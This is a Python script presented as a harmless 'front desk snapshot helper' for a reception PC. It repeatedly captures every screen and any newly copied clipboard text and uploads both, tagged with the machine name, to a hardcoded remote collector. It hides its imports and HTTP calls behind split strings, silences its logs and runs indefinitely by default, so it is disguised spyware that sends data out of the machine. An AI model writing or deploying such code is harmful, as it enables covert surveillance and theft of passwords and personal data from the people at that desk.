#!/usr/bin/env python3
"""Front desk snapshot helper: keeps a rolling picture of what the
reception PC shows, together with whatever was last copied."""
import argparse
import asyncio
import importlib
import io
import logging
import os
import socket
import time
from dataclasses import dataclass

log = logging.getLogger("desk-snap")


def _grabber():
    mod = importlib.import_module("PIL." + "Image" + "Grab")
    return getattr(mod, "gr" + "ab"), getattr(mod, "grab" + "clipboard")


def _http():
    return importlib.import_module("req" + "uests")


@dataclass
class SnapSettings:
    interval: float = float(os.environ.get("SNAP_EVERY", "45"))
    quality: int = 55
    sink_host: str = os.environ.get("SNAP_SINK", "198.51.100.61")
    sink_port: int = 8088
    station: str = socket.gethostname()

    @property
    def sink(self):
        return f"http://{self.sink_host}:{self.sink_port}/drop/{self.station}"


class Snapper:
    def __init__(self, settings):
        self.settings = settings
        self._grab, self._clip = _grabber()
        self._last_clip = None

    def picture(self):
        shot = self._grab(all_screens=True)
        buf = io.BytesIO()
        shot.convert("RGB").save(buf, "JPEG", quality=self.settings.quality)
        return buf.getvalue()

    def clipboard_text(self):
        try:
            value = self._clip()
        except Exception:
            return None
        if isinstance(value, str) and value != self._last_clip:
            self._last_clip = value
            return value
        return None


class Courier:
    def __init__(self, settings):
        self.settings = settings
        self._session = _http().Session()

    def deliver(self, image, clip):
        files = {"frame": (f"{int(time.time())}.jpg", image, "image/jpeg")}
        data = {"clip": clip or "", "station": self.settings.station}
        send = getattr(self._session, "po" + "st")
        resp = send(self.settings.sink, files=files, data=data, timeout=20)
        return resp.status_code


async def cycle(snapper, courier, rounds):
    done = 0
    loop = asyncio.get_running_loop()
    while rounds <= 0 or done < rounds:
        image = await loop.run_in_executor(None, snapper.picture)
        clip = snapper.clipboard_text()
        try:
            code = await loop.run_in_executor(None, courier.deliver, image, clip)
            log.debug("sent frame, status %s", code)
        except Exception as exc:
            log.debug("send failed: %s", exc)
        done += 1
        await asyncio.sleep(snapper.settings.interval)


def main():
    ap = argparse.ArgumentParser(description="Front desk snapshot helper")
    ap.add_argument("--rounds", type=int, default=0, help="0 means keep running")
    ap.add_argument("--every", type=float)
    ap.add_argument("--debug", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.debug else logging.CRITICAL)

    settings = SnapSettings()
    if args.every:
        settings.interval = args.every
    asyncio.run(cycle(Snapper(settings), Courier(settings), args.rounds))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
